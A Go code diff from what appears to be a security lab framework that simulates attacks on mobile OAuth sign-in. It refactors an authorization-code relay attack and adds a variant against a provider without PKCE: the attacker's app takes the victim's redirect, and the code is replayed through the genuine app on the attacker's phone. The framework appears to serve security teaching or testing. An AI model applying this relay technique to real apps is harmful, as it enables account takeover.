@@ -10,6 +10,7 @@ import (
 	"keyladder/mobileclient/attacker/attack"
 	"keyladder/mobileclient/attacker/lookalike"
 	"keyladder/mobileclient/attacker/loot"
+	"keyladder/stages/catalog"
 	"keyladder/stages/protect"
 )
 
@@ -71,7 +72,22 @@ func CodeHijack(ctx context.Context, g *attack.Given) (attack.Result, error) {
 //
 //keyladder:code attack-code-relay
 func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
-	link, err := hijack(ctx, g, g.Thief.SignsIn)
+	return relay(ctx, g, catalog.Bank, g.Thief.SignsIn)
+}
+
+// WeakProvider is CodeRelay with a victim who signs in at another company's authorization server.
+// That one knows no PKCE: it takes any code from whoever has the client's secret. Where the mediator
+// adds that, and passes on what a genuine app sends, no verifier of the victim's app is missed.
+//
+//keyladder:code attack-weak-provider
+func WeakProvider(ctx context.Context, g *attack.Given) (attack.Result, error) {
+	return relay(ctx, g, catalog.Lite, func(ctx context.Context) error { return g.Thief.SignsInAt(ctx, catalog.Lite) })
+}
+
+// relay catches the code of a victim who signs in with a provider, and has the genuine app on the
+// attacker's own phone exchange it.
+func relay(ctx context.Context, g *attack.Given, provider string, signsIn func(context.Context) error) (attack.Result, error) {
+	link, err := hijack(ctx, g, signsIn)
 	if err != nil {
 		return attack.Result{}, err
 	}
@@ -84,11 +100,15 @@ func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
 		return attack.Result{}, err
 	}
 	defer phone.Close()
-	state, err := begin(ctx, g, phone)
+	redirectURI, state, err := begin(ctx, g, phone, provider)
 	if err != nil {
 		return attack.Stopped(err)
 	}
-	relayed := g.RedirectURI + "?" + url.Values{"code": {code}, "state": {state}, "iss": {parameter(link, "iss")}}.Encode()
+	query := url.Values{"code": {code}, "state": {state}}
+	if iss := parameter(link, "iss"); iss != "" {
+		query.Set("iss", iss)
+	}
+	relayed := redirectURI + "?" + query.Encode()
 	g.Say("Began to sign in with the genuine app on our own phone, and opened it with a link that carries its own state and the victim's code.")
 	if _, err := phone.Device.HandOver(ctx, relayed, g.Stage.Slug); err != nil {
 		return attack.Result{}, fmt.Errorf("open the app with a link: %w", err)
@@ -114,30 +134,30 @@ func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
 }
 
 // begin has the genuine app on a phone of the attacker's wait for an authorization response, and
-// returns the state that this has to have. It stands in the address of the page or, where the app has
+// returns where that goes and the state that it has to have. This stands in the address of the page or, where the app has
 // pushed its request, in the one that leads back: the phone's owner signs in, and keeps that.
-func begin(ctx context.Context, g *attack.Given, phone *attack.Phone) (state string, err error) {
-	if _, err := attack.Shown(phone.App.OpenSignIn(ctx)); err != nil {
-		return "", err
+func begin(ctx context.Context, g *attack.Given, phone *attack.Phone, provider string) (redirectURI, state string, err error) {
+	if _, err := attack.Shown(phone.App.OpenSignInAt(ctx, provider)); err != nil {
+		return "", "", err
 	}
 	agent := phone.Device.Agent()
 	page := agent.Current()
 	if page == nil {
-		return "", errors.New("the app opens no page to sign in on")
+		return "", "", errors.New("the app opens no page to sign in on")
 	}
 	if state = parameter(page.URL, "state"); state != "" {
-		return state, nil
+		return parameter(page.URL, "redirect_uri"), state, nil
 	}
 	agent.Confirm(func(string) bool { return false })
 	defer agent.Confirm(nil)
 	if _, err := g.SignIn(ctx, phone.Device, phone.App, g.User, g.Password); err != nil {
-		return "", err
+		return "", "", err
 	}
 	if state = parameter(agent.Current().URL, "state"); state == "" {
-		return "", errors.New("no address that leads back to the app has a state in it")
+		return "", "", errors.New("no address that leads back to the app has a state in it")
 	}
 	g.Say("The address of the page has no state in it: the app has pushed its request. Signed in there ourselves, and kept the link that leads back from the app.")
-	return state, nil
+	return g.RedirectURI, state, nil
 }
 
 // hijack has the victim sign in while the attacker's app takes the redirect, and returns that.
